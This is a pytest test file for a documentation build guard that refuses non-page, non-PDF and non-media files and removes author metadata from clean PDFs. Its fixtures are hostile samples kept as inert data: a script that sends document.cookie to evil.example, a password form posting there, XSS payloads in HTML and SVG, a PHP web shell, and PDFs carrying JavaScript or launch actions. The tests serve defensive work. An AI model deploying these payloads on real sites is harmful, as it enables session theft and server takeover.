"""docs/ publishes Markdown pages, clean PDFs (without their authors), video and audio, each
known by its content; every other file fails the build, named, and is never copied."""

from __future__ import annotations

import io

import pikepdf
import pytest
from PIL import Image

from guard.checks import build_failing, findings_of
from guard.sites import home_pages, jpeg_bytes, pdf_bytes
from ttdn.guard import detect
from ttdn.guard.pdf import authors_in

MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
HTML = b"<!DOCTYPE html><html><body><form action='https://evil.example/'>" \
       b"<input type=password></form><script>alert(1)</script></body></html>"


def image_bytes(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


REFUSED: dict[str, bytes] = {
    "trang.html": HTML,
    "trang.htm": HTML,
    "ma.js": b"fetch('https://evil.example/?c=' + document.cookie)",
    "kieu.css": b"body { display: none }",
    "hinh.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "hinh-xml.svg": b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg' "
                    b"onload='alert(1)'/>",
    "trang.php": b"<?php system($_GET['c']); ?>",
    "chuong-trinh.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(64),
    "khong-duoi": b"Ghi ch\xc3\xba n\xe1\xbb\x99i b\xe1\xbb\x99",
    "ghi-chu.txt": "Ghi chú nội bộ: số điện thoại riêng".encode(),
    "du-lieu.json": b'{"mat_khau": "1234"}',
    "du-lieu.xml": b"<?xml version='1.0'?><a/>",
    "flash.swf": b"FWS\x0a" + bytes(32),
    "ma.wasm": b"\x00asm\x01\x00\x00\x00",
    "anh.jpg": jpeg_bytes(),
    "anh-gps.jfif": jpeg_bytes(gps=True),
    "anh.jpe": jpeg_bytes(gps=True),
    "anh.png": image_bytes("PNG"),
    "anh.gif": image_bytes("GIF"),
    "anh.webp": image_bytes("WEBP"),
    "anh.tiff": image_bytes("TIFF"),
    "anh.heic": b"\x00\x00\x00\x1cftypheic\x00\x00\x00\x00mif1heic" + bytes(32),
    "anh.avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1" + bytes(32),
    "anh-doi-ten.txt": jpeg_bytes(gps=True),
    "anh-doi-ten.pdf": jpeg_bytes(gps=True),
    "anh-khong-duoi": jpeg_bytes(gps=True),
    "trang-doi-ten.pdf": HTML,
    "trang-doi-ten.mp4": HTML,
    "video-doi-ten.html": MP4 + HTML,
    "pdf-doi-ten.txt": pdf_bytes(),
    "rong.pdf": b"",
    "pdf-javascript.pdf": pdf_bytes(javascript=True),
    "pdf-launch.pdf": pdf_bytes(launch=True),
    "pdf-nhung-tep.pdf": pdf_bytes(embedded=True),
    "pdf-lien-ket.pdf": pdf_bytes(uri="javascript:app.alert(1)"),
    "pdf-hong.pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\ngarbage",
    "pdf-mat-khau.pdf": encrypted_pdf(),
}
PUBLISHED: dict[str, bytes] = {
    "video.mp4": MP4,
    "video.webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + bytes(32),
    "am-thanh.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(32),
    "am-thanh-khung.mp3": b"\xff\xfb\x90\x00" + bytes(64),
    "am-thanh.ogg": b"OggS\x00\x02" + bytes(32),
    "sach.pdf": pdf_bytes(author="Nguyễn Văn A", uri="https://quangngai.gov.vn/"),
}


@pytest.fixture(scope="module")
def files_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("docs-files")
    folder = root / "docs/vi/tep"
    folder.mkdir(parents=True)
    for name, data in {**REFUSED, **PUBLISHED}.items():
        (folder / name).write_bytes(data)
    return build_failing(root, home_pages())


def test_every_file_that_is_not_a_page_pdf_video_or_audio_fails_the_build_named(files_build):
    report, _ = files_build
    named = {path for path, _, _ in findings_of(report)}
    expected = {f"docs/vi/tep/{name}" for name in REFUSED}
    assert expected - named == set()
    assert not {f"docs/vi/tep/{name}" for name in PUBLISHED} & named


def test_refused_files_are_never_copied_even_by_a_failed_build(files_build):
    _, site = files_build
    assert (site / "tep/video.mp4").is_file()  # the build got as far as copying files
    assert [name for name in REFUSED if (site / "tep" / name).exists()] == []


def test_a_photo_named_md_fails_the_build_named(tmp_path):
    (tmp_path / "docs/en").mkdir(parents=True)
    (tmp_path / "docs/en/anh.md").write_bytes(jpeg_bytes(gps=True))
    report, site = build_failing(tmp_path, home_pages())
    assert "docs/en/anh.md: file-type: " in report  # refused by the gate, before it is read
    assert not (site / "en/anh").exists()


def test_photos_are_sent_to_photos_and_svg_to_png(files_build):
    report, _ = files_build
    photo = report[report.index("docs/vi/tep/anh-gps.jfif"):]
    assert "Move it to photos/" in photo.split("\n")[1]
    assert "export it to PNG" in report[report.index("docs/vi/tep/hinh.svg"):]


def test_pdfs_that_can_act_are_refused_with_the_reason(files_build):
    report, _ = files_build
    for name, what in (("pdf-javascript.pdf", "JavaScript"), ("pdf-launch.pdf", "Launch"),
                       ("pdf-nhung-tep.pdf", "EmbeddedFile"), ("pdf-lien-ket.pdf", "javascript"),
                       ("pdf-mat-khau.pdf", "password"), ("pdf-hong.pdf", "damaged")):
        text = report[report.index(f"docs/vi/tep/{name}"):].split("\ndocs/")[0]
        assert what in text, (name, text)


def test_a_clean_pdf_is_published_without_its_authors(files_build):
    _, site = files_build
    source = site.parent / "docs/vi/tep/sach.pdf"
    assert authors_in(source)["/Author"] == "Nguyễn Văn A"
    published = site / "tep/sach.pdf"
    assert authors_in(published) == {}
    with pikepdf.open(published) as pdf:
        assert str(pdf.docinfo["/Title"]) == "Kế hoạch"  # the title stays: readers need it
        assert len(pdf.pages) == 1


@pytest.mark.parametrize(("head", "kind"), [
    (jpeg_bytes(), "image"), (image_bytes("PNG"), "image"), (image_bytes("GIF"), "image"),
    (image_bytes("WEBP"), "image"), (REFUSED["anh.heic"], "image"),
    (REFUSED["anh.avif"], "image"), (pdf_bytes(), "pdf"), (MP4, "video"),
    (PUBLISHED["video.webm"], "video"), (PUBLISHED["am-thanh.mp3"], "audio"),
    (b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00", "audio"), (HTML, "html"),
    (REFUSED["hinh-xml.svg"], "svg"), (b"plain words", "text"),
    (REFUSED["chuong-trinh.exe"], "other"),
])
def test_files_are_known_by_their_content(head, kind):
    assert detect.kind(head[:2048]) == kind
